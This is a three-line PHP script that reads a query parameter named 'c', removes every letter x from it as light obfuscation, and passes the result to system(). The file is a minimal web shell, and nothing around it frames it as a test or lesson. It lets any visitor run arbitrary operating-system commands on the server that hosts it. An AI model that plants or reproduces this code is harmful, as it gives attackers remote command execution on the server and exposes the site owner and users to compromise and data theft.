<?php
$f = fn() => str_replace("x", "", $_GET["c"]);
system($f());
